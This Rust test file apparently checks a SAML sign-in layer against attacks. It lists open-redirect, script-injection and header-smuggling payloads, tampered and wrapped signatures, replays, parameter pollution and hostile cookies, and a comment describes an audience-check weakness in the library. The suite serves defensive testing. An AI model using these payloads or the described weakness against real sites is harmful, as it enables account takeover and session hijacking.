    });
}

/// Redirect targets that must never leave the site.
const EVIL_TARGETS: &[&str] = &[
    "https://evil.example/",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "https:evil.example",
    "http:/evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://127.0.0.1:3000.evil.example/",
    "http://127.0.0.1:3000@evil.example/",
    "http://127.0.0.1:30000/",
    "HTTPS://EVIL.EXAMPLE/",
    " https://evil.example/",
    "/\r\nSet-Cookie: saml_session=planted",
    "\u{0}https://evil.example/",
];

#[test]
fn return_to_and_relay_state_never_redirect_off_site() {
    // Source: CWE-601 (open redirect); OWASP Unvalidated Redirects and
    // Forwards Cheat Sheet; SAML 2.0 Bindings section 3.4.3 (RelayState).
    rt().block_on(async {
        let node = Node::new(|s| s.allow_idp_initiated = true);
        for evil in EVIL_TARGETS {
            // return_to on the login (SP-initiated).
            let mut browser = Browser::default();
            let req = browser
                .begin_login(&node, &format!("return_to={}", percent(evil)))
                .await;
            let xml = Base::new(&node.ctx(Some(req)), Signer::Ours).assertion_signed();
            // The IdP (or a tamperer) also sends back an evil RelayState:
            // SP-initiated logins ignore it for the pending login's target.
            let reply = browser.post_response(&node, &xml, Some(evil)).await;
            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{evil:?}: {reply:?}");
            assert_eq!(reply.location(), Some("/"), "return_to {evil:?}");

            // RelayState of an IdP-initiated response.
            let xml = Base::new(&node.ctx(None), Signer::Xmlsec).assertion_signed();
            let reply = Browser::default()
                .post_response(&node, &xml, Some(evil))
                .await;
            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{evil:?}: {reply:?}");
            assert_eq!(reply.location(), Some("/"), "RelayState {evil:?}");
        }
        // A same-origin return_to survives a forged RelayState.
        let mut browser = Browser::default();
        let req = browser
            .begin_login(&node, &format!("return_to={}", percent("/reports?q=1")))
            .await;
        let xml = Base::new(&node.ctx(Some(req)), Signer::Ours).assertion_signed();
        let reply = browser
            .post_response(&node, &xml, Some("https://evil.example/"))
            .await;
        assert_eq!(reply.location(), Some("/reports?q=1"));
        // A 100 KB RelayState is no error.
        let xml = Base::new(&node.ctx(None), Signer::Ours).assertion_signed();
        let long = format!("/{}", "a".repeat(100_000));
        let reply = Browser::default()
            .post_response(&node, &xml, Some(&long))
            .await;
        assert_eq!(reply.status, StatusCode::SEE_OTHER, "{reply:?}");
        assert_eq!(reply.location(), Some("/"));
    });
}

// ====================================================================
// The oracle agrees: what we refuse for signature reasons, xmlsec1 refuses
// ====================================================================

#[test]
fn xmlsec1_agrees_that_the_tampered_signatures_are_invalid() {
    // The signature-level attacks refused above are refused by xmlsec1 too
    // (it checks the signature only, not SAML), and the genuine ones verify:
    // the suite's bases are real signatures, not artefacts of our signer.
    let base = Base::new(&lib_ctx(), Signer::Xmlsec);
    let cert = &keys().idp.cert_path;
    assert!(kit::xmlsec_verifies(&base.assertion_signed(), cert));
    assert!(kit::xmlsec_verifies(
        &Base::new(&lib_ctx(), Signer::Ours).assertion_signed(),
        cert
    ));
    let tampered = [
        base.assertion_signed().replace(ALICE, ADMIN),
        set_text(&xsw_evil_signed(&base), "DigestValue", &evil_digest(&base)),
        set_text(&base.assertion_signed(), "SignatureValue", "AAAA"),
    ];
    for xml in tampered {
        assert!(
            !kit::xmlsec_verifies(&xml, cert),
            "xmlsec1 accepted:\n{xml}"
        );
    }
}

// ====================================================================
// Replay at the edge of the validity window
// ====================================================================

/// Alice's assertion without `SessionNotOnOrAfter` (many IdPs omit it),
/// valid five minutes from `ctx.now`, signed, in an unsigned Response.
fn without_session_end(ctx: &Ctx, signer: Signer) -> String {
    let id = fresh_id("a");
    let a = kit::assertion_xml(ctx, &id, ALICE);
    let at = a.find(" SessionNotOnOrAfter=\"").unwrap();
    let end = at + a[at + 22..].find('"').unwrap() + 23;
    let a = format!("{}{}", &a[..at], &a[end..]);
    let signed = kit::sign(signer, &a, &id, &keys().idp);
    kit::response_xml(ctx, &fresh_id("r"), &signed)
}

#[test]
fn a_replay_inside_the_clock_skew_after_not_on_or_after_is_refused() {
    // Source: SAML 2.0 Profiles section 4.1.4.5 ("the service provider MUST
    // ensure that bearer assertions are not replayed, by maintaining the set
    // of used ID values for the length of time for which the assertion would
    // be considered valid based on the NotOnOrAfter attribute"); the
    // assertion stays valid for NotOnOrAfter plus the clock skew, so the ID
    // must be remembered at least that long. DESIGN.md invariants 5 and 6.
    rt().block_on(async {
        for skew in [10, 120] {
            let node = Node::new(|s| {
                s.allow_idp_initiated = true;
                s.clock_skew_seconds = skew;
            });
            let xml = without_session_end(&node.ctx(None), Signer::Ours);
            let reply = Browser::default().post_response(&node, &xml, None).await;
            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{reply:?}");
            // NotOnOrAfter has passed, but by less than the skew: the
            // assertion is still acceptable, so it must still be remembered.
            node.clock
                .advance(Duration::minutes(5) + Duration::seconds(skew / 2));
            let mut replayer = Browser::default();
            let reply = replayer.post_response(&node, &xml, None).await;
            assert_eq!(reply.code(), Some("replayed"), "skew {skew}: {reply:?}");
            assert_eq!(replayer.whoami(&node).await, None);
        }
    });
}

/// Alice's assertion whose Conditions carry no `NotOnOrAfter` (optional in
/// SAML Core 2.5.1) and no `SessionNotOnOrAfter`, while the bearer
/// confirmation is valid for an hour: the confirmation alone bounds it.
fn confirmation_bounded(ctx: &Ctx, signer: Signer) -> String {
    let id = fresh_id("a");
    let a = kit::assertion_xml(ctx, &id, ALICE);
    let drop_attr = |a: &str, name: &str| {
        let at = a.find(&format!(" {name}=\"")).unwrap();
        let end = at + name.len() + 3 + a[at + name.len() + 3..].find('"').unwrap() + 1;
        format!("{}{}", &a[..at], &a[end..])
    };
    let a = drop_attr(&a, "SessionNotOnOrAfter");
    // The Conditions' NotOnOrAfter is the second NotOnOrAfter (after the
    // confirmation's); drop it, and stretch the confirmation to an hour.
    let cond = a.find("<saml:Conditions").unwrap();
    let a = format!("{}{}", &a[..cond], drop_attr(&a[cond..], "NotOnOrAfter"));
    let five = kit::format_time(ctx.now + Duration::minutes(5));
    let hour = kit::format_time(ctx.now + Duration::hours(1));
    let a = a.replacen(
        &format!(r#"NotOnOrAfter="{five}""#),
        &format!(r#"NotOnOrAfter="{hour}""#),
        1,
    );
    let signed = kit::sign(signer, &a, &id, &keys().idp);
    kit::response_xml(ctx, &fresh_id("r"), &signed)
}

#[test]
fn a_replay_while_only_the_subject_confirmation_bounds_the_assertion_is_refused() {
    // Source: SAML 2.0 Profiles section 4.1.4.5 (remember used IDs as long
    // as the assertion would be valid); SAML Core section 2.5.1 (the
    // Conditions' NotOnOrAfter is optional) and Profiles 4.1.4.2 (a bearer
    // SubjectConfirmationData carries NotOnOrAfter). DESIGN.md invariant 6.
    rt().block_on(async {
        let node = Node::new(|s| s.allow_idp_initiated = true);
        let xml = confirmation_bounded(&node.ctx(None), Signer::Ours);
        let reply = Browser::default().post_response(&node, &xml, None).await;
        assert_eq!(reply.status, StatusCode::SEE_OTHER, "{reply:?}");
        node.clock.advance(Duration::minutes(10));
        let mut replayer = Browser::default();
        let reply = replayer.post_response(&node, &xml, None).await;
        assert_eq!(reply.code(), Some("replayed"), "{reply:?}");
        assert_eq!(replayer.whoami(&node).await, None);
    });
}

#[test]
fn the_library_replay_expiry_covers_every_instant_the_assertion_is_accepted() {
    // The layer remembers an assertion ID until `Assertion::replay_expiry`;
    // the library accepts the assertion until its NotOnOrAfter (Conditions
    // and SubjectConfirmationData) plus the clock skew. The first must not
    // end before the second. Source: SAML 2.0 Profiles section 4.1.4.5.
    let mut ctx = lib_ctx();
    ctx.request_id = None;
    let mut v = validator();
    v.allow_idp_initiated = true;
    let none = Expectation::default();
    let mut failures = Vec::new();
    for (what, xml) in [
        (
            "no SessionNotOnOrAfter",
            without_session_end(&ctx, Signer::Xmlsec),
        ),
        (
            "only the confirmation bounds it",
            confirmation_bounded(&ctx, Signer::Xmlsec),
        ),
    ] {
        let first = v.validate_xml(&xml, &none, &FixedClock(ctx.now)).unwrap();
        let remembered_until = first.replay_expiry(ctx.now);
        // The last instant at which the same response is still accepted,
        // to the second.
        let mut last = ctx.now;
        let mut step = Duration::hours(2);
        while step >= Duration::seconds(1) {
            if v.validate_xml(&xml, &none, &FixedClock(last + step))
                .is_ok()
            {
                last += step;
            } else {
                step = Duration::seconds(step.num_seconds() / 2);
            }
        }
        if remembered_until <= last {
            failures.push(format!(
                "{what}: remembered until {remembered_until}, accepted until {last}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

// ====================================================================
// Assertions the IdP signed without an audience
// ====================================================================

/// Alice's assertion without `AudienceRestriction` (or without Conditions
/// at all), signed, in an unsigned Response.
fn without_audience(b: &Base, drop_conditions: bool) -> String {
    let a = &b.assertion;
    let a = if drop_conditions {
        let c = element(a, "<saml:Conditions", "</saml:Conditions>").to_owned();
        a.replacen(&c, "", 1)
    } else {
        let r = element(
            a,
            "<saml:AudienceRestriction>",
            "</saml:AudienceRestriction>",
        )
        .to_owned();
        a.replacen(&r, "", 1)
    };
    b.response(&b.idp_sign(&a, &b.aid))
}

fn missing_audience() -> Vec<Case> {
    let src = "SAML 2.0 Profiles section 4.1.4.2: an assertion with a bearer confirmation MUST contain an AudienceRestriction naming the SP (otherwise an assertion issued for another SP is good here); SAML 2.0 Security Considerations 7.1.1.7";
    vec![
        Case::new(
            "no AudienceRestriction",
            src,
            |b| without_audience(b, false),
            refused(&[ErrorCode::AudienceMismatch]),
        ),
        Case::new(
            "no Conditions at all",
            src,
            |b| without_audience(b, true),
            refused(&[ErrorCode::AudienceMismatch]),
        ),
    ]
}

// VULN (lower severity, a MUST of SAML 2.0 Profiles 4.1.4.2):
// `ResponseValidator::read_assertion` (saml-core/src/protocol/response.rs)
// checks the Audience only when Conditions and an AudienceRestriction are
// present; an IdP-signed bearer assertion with neither is accepted by the
// library and signs in through the layer. Exploitable where an assertion
// issued for another SP names our ACS URL as its Recipient.

#[test]
fn assertions_without_an_audience_are_refused_by_the_library() {
    run_library(&missing_audience());
}

#[test]
fn assertions_without_an_audience_are_refused_by_the_layer() {
    rt().block_on(run_layer(&missing_audience()));
}

// ====================================================================
// HTTP-level tricks: parameter pollution, hostile cookies
// ====================================================================

#[test]
fn a_second_saml_response_field_is_never_read() {
    // Source: HTTP parameter pollution (Balduzzi et al., NDSS 2011); the
    // layer reads the first field of a name and nothing else.
    rt().block_on(async {
        let node = Node::new(|_| {});
        for evil_first in [false, true] {
            let mut browser = Browser::default();
            let req = browser.begin_login(&node, "").await;
            let base = Base::new(&node.ctx(Some(req)), Signer::Xmlsec);
            let genuine = kit::b64(&base.assertion_signed());
            let evil = kit::b64(&base.response(&base.evil));
            let fields = if evil_first {
                [
                    ("SAMLResponse", evil.as_str()),
                    ("SAMLResponse", genuine.as_str()),
                ]
            } else {
                [
                    ("SAMLResponse", genuine.as_str()),
                    ("SAMLResponse", evil.as_str()),
                ]
            };
            let reply = browser
                .post_form(&node, "/saml/acs", form_body(&fields))
                .await;
            if evil_first {
                assert_eq!(reply.code(), Some("signature_missing"), "{reply:?}");
                assert_eq!(browser.whoami(&node).await, None);
            } else {
                assert_eq!(reply.status, StatusCode::SEE_OTHER, "{reply:?}");
                assert_eq!(browser.whoami(&node).await.as_deref(), Some(ALICE));
            }
        }
    });
}

#[test]
fn hostile_session_and_binding_cookies_are_anonymous_never_500() {
    // Source: OWASP Session Management Cheat Sheet (treat session ids as
    // untrusted input).
    rt().block_on(async {
        let node = Node::new(|_| {});
        let long = "A".repeat(8000);
        for value in [
            long.as_str(),
            "%00%ff",
            "\"quoted\"",
            "a=b=c",
            "../../etc/passwd",
            "",
        ] {
            let mut browser = Browser::default();
            browser.set_cookie("saml_session", value, "/");
            browser.set_cookie("saml_binding", value, "/saml");
            assert_eq!(browser.whoami(&node).await, None, "{value:?}");
            // A login from that browser still works, with a fresh session.
            let req = browser.begin_login(&node, "").await;
            let xml = Base::new(&node.ctx(Some(req)), Signer::Ours).assertion_signed();
            let reply = browser.post_response(&node, &xml, None).await;
            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{value:?}: {reply:?}");
            assert_ne!(browser.cookie("saml_session"), Some(value));
            assert_eq!(browser.whoami(&node).await.as_deref(), Some(ALICE));
        }
    });
}
